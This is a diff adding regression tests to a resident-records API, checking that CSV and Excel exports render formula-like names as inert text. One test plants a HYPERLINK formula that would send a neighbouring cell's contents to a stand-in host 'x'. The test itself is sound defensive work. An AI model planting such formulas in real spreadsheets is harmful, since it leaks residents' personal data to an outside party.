@@ -1,6 +1,7 @@
 """The basedata API: scope per role (401/403/404/2xx), masking everywhere, unmasking and exports logged,
 encryption at rest, the phone endpoints, key-population visibility, 六必访 due list, statistics."""
 
+import csv
 import datetime as dt
 import io
 import re
@@ -342,3 +343,38 @@ def test_import_over_the_api_rejects_then_skips_and_reports_progress(client_for)
                                          content_type="text/csv").status_code == 403
     tpl = client.get("/api/v1/basedata/templates/residents?format=csv")
     assert tpl.status_code == 200 and tpl.content.decode("utf-8-sig").startswith("姓名,身份证号")
+
+
+HYPERLINK = '=HYPERLINK("http://x?"&B2,"点击")'
+
+
+@pytest.mark.parametrize("unmask", [False, True])
+def test_an_exported_formula_name_comes_out_inert(client_for, unmask):
+    """Issue 13, defect 2: a resident named like a formula is exported as text, in CSV and .xlsx, masked or not."""
+    from openpyxl import load_workbook
+
+    client = client_for("gridleader")
+    target = resident_in("110101001001W001.")
+    assert client.patch(f"/api/v1/basedata/residents/{target.pk}", {"name": HYPERLINK},
+                        content_type="application/json").status_code == 200
+    query = "node=110101001001W001" + ("&unmask=true&reason=年度核查" if unmask else "")
+    resp = client.get(f"/api/v1/basedata/exports/residents?format=csv&{query}")
+    assert resp.status_code == 200
+    rows = [r for r in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) if HYPERLINK in "".join(r)]
+    assert [r[0] for r in rows] == ['\'=HYPERLINK("http://x?"&B2,"点击")']
+    resp = client.get(f"/api/v1/basedata/exports/residents?format=xlsx&{query}")
+    assert resp.status_code == 200
+    ws = load_workbook(io.BytesIO(resp.content)).worksheets[0]
+    cells = [row[0] for row in ws.iter_rows(min_row=2) if HYPERLINK in str(row[0].value)]
+    assert [(c.data_type, c.value) for c in cells] == [("s", '\'=HYPERLINK("http://x?"&B2,"点击")')]
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+
+
+def test_located_points_come_back_inert(client_for):
+    """The locate CSV echoes the caller's columns: a formula in one comes back as text."""
+    client = client_for("admin")
+    body = "lon,lat,note\n116.4107,39.9281,=1+2\n"
+    resp = client.post("/api/v1/locate/csv", body, content_type="text/csv")
+    assert resp.status_code == 200
+    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
+    assert rows[1][:3] == ["116.4107", "39.9281", "'=1+2"]
